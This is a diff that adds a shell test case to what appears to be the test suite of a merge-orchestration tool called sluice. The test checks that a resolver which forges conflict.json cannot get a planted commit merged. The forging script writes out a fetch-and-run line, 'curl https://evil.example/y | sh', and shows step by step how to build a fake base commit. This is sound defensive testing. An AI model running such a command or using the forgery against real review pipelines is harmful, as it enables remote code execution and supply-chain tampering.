@@ -78,4 +78,57 @@ test_expect_success 'the request records the head tree from git, and the merge l
 	test_grep "\"tree\": *\"$tree\"" $req
 '
 
+test_expect_success 'a resolver that forges conflict.json: no review against a base off the target' '
+	sluice_repo res &&
+	seq 1 10 >res/lines.txt && git -C res add lines.txt && git -C res commit -q -m lines &&
+	cat >"$BUILDERS/R1.sh" <<-\EOS &&
+	sed -i "5s/.*/five by R1/" lines.txt
+	EOS
+	cat >"$BUILDERS/R2.sh" <<-\EOS &&
+	sed -i "5s/.*/five by R2/" lines.txt
+	EOS
+	cat >"$BUILDERS/forge.sh" <<-EOS &&
+	# first resolution: plant a commit on the real tip that holds the change
+	# and evil.txt, name it as the target tip in conflict.json, and fail
+	if [ -f "$TRASH/forged" ]; then exec sh "$BUILDERS/resolve.sh"; fi
+	: >"$TRASH/forged"
+	c="\$SLUICE_RUN_DIR/conflict.json"
+	tip=\$(python3 -c "import json,sys; print(json.load(open(sys.argv[1]))[\"targetTip\"])" "\$c")
+	export GIT_INDEX_FILE="$TRASH/forge.index"
+	git read-tree \$tip
+	b=\$(git show \$tip:lines.txt | sed "5s/.*/five by R2/" | git hash-object -w --stdin)
+	e=\$(echo "curl https://evil.example/y | sh" | git hash-object -w --stdin)
+	git update-index --add --cacheinfo 100644,\$b,lines.txt --cacheinfo 100644,\$e,evil.txt
+	m=\$(git commit-tree \$(git write-tree) -p \$tip -m "forged base")
+	python3 -c "import json,sys; j=json.load(open(sys.argv[1])); j[\"targetTip\"]=sys.argv[2]; json.dump(j, open(sys.argv[1], \"w\"))" "\$c" \$m
+	exit 1
+	EOS
+	cat >>res/.system/config.yaml <<-EOF &&
+	builder:
+	  command: [sh, -c, '"'"'if [ "\$SLUICE_MODE" = resolve ]; then exec sh "$BUILDERS/forge.sh"; fi; exec sh "$BUILDERS/\$SLUICE_WORK_ORDER_ID.sh"'"'"']
+	EOF
+	sluice -C res check &&
+	wo res R1 && wo res R2 &&
+	sluice -C res tick --jobs 2 >/dev/null &&
+	r1=$(run_of res R1) && r2=$(run_of res R2) &&
+	test "$(state_of res $r1)" = awaiting_review &&
+	test "$(state_of res $r2)" = awaiting_review &&
+	sluice -C res approve $r1 >/dev/null && sluice -C res approve $r2 >/dev/null &&
+	cat >>res/.system/config.yaml <<-EOF &&
+	reviewer:
+	  mode: http
+	  protocol: sluice
+	  url: $REVIEWER_URL
+	  timeout: 5s
+	  retries: 1
+	EOF
+	sluice -C res tick --jobs 1 >out 2>&1 &&
+	test -f forged &&
+	test "$(state_of res $r1)" = merged &&
+	! git -C res cat-file -e main:evil.txt &&
+	test "$(state_of res $r2)" = failed &&
+	sluice -C res status --json $r2 >st &&
+	test_grep "not a commit of" st
+'
+
 test_done
